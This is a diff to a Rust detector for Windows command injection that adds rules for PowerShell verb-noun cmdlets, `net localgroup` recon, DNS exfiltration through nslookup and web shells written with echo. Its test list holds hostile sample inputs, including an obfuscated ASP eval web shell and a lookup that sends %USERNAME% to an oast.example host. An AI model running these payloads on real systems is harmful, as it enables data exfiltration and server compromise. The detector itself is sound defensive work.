@@ -9,6 +9,7 @@
 //! a plain command that merely starts the value, or sits in prose / long text, at level 2.
 
 use crate::cmd_deobf::deobfuscate;
+use crate::shell_windows_args::{redirect_to_script, verb_noun};
 use crate::prose::is_long_or_prose;
 use crate::{Check, Finding, Input};
 
@@ -402,7 +403,7 @@ fn command(
                     p == b"e" || p == b"c" || p == b"w" || PS_PARAMS.iter().any(|k| k.as_bytes().starts_with(p) && p.len() >= 2)
                 }
             };
-            if args.iter().any(|a| param(a)) || first == b"(" || first.starts_with(b"$") || first.starts_with(b"iex") {
+            if args.iter().any(|a| param(a)) || first == b"(" || first.starts_with(b"$") || first.starts_with(b"iex") || verb_noun(first) {
                 hit("command-injection:windows-powershell", true);
             }
         }
@@ -460,7 +461,15 @@ fn command(
         b"ping" if args.iter().any(|a| matches!(*a, b"-n" | b"/n" | b"-t" | b"-l")) => hit("command-injection:windows-cmd", true),
         // `net user` / `net view` alone, or with a switch (`/add`, `/domain`); `net user guide`
         // reads as words.
-        b"net" | b"net1" if !(args.len() == 1 || args.iter().any(|a| switch(a))) => {}
+        // `localgroup` is no English word: `net localgroup administrators` is recon.
+        b"net" | b"net1" if !(args.len() == 1 || first == b"localgroup" || args.iter().any(|a| switch(a))) => {}
+        // `nslookup %USERNAME%.oast.example`: a variable expanded into a looked-up name sends
+        // it out over DNS; a host or IP after a separator is the out-of-band probe.
+        b"nslookup" if op == Opener::Sep && args.len() <= 2 && args.iter().any(|a| a.contains(&b'.')) => {
+            hit("command-injection:windows-cmd", first.first() == Some(&b'%'))
+        }
+        // `echo <code> > c:\inetpub\wwwroot\x.asp`: a web shell written where it is served.
+        b"echo" if redirect_to_script(&t[end..]) => hit("command-injection:windows-cmd", true),
         b"echo" if op == Opener::Sep && first.first() == Some(&b'%') => hit("command-injection:windows-cmd", false),
         _ => {
             if let Some((_, words)) = SWITCHED.iter().find(|(c, _)| c.as_bytes() == base) {
@@ -518,6 +527,7 @@ const ARM_NAMES: &[&str] = &[
     "net",
     "net1",
     "echo",
+    "nslookup",
 ];
 
 /// For each first letter, a bit per length of every word `command` knows.
@@ -576,6 +586,10 @@ mod tests {
             "& for /f %i in ('whoami') do echo %i",
             "; mshta http://x/a.hta",
             "& %ProgramData:~0,1%%ProgramData:~9,1%d /c ver",
+            "| powershell Start-Process calc",
+            "&nslookup %USERNAME%.x.oast.example",
+            "& n^et localgroup administrators",
+            "& e^cho ^<%eval request(\"x\")%^> > C:\\inetpub\\wwwroot\\x.asp",
         ] {
             assert_eq!(level(s), Some(1), "{s}");
         }
